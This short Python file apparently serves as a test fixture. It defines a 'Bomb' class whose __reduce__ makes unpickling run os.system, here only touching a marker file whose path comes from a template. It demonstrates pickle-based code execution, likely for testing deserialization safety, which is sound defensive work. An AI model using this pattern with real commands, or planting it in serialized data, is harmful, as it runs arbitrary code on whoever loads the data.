import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {AT['world']}/{AT['marker']}",)


def twice(x):
    return Bomb()
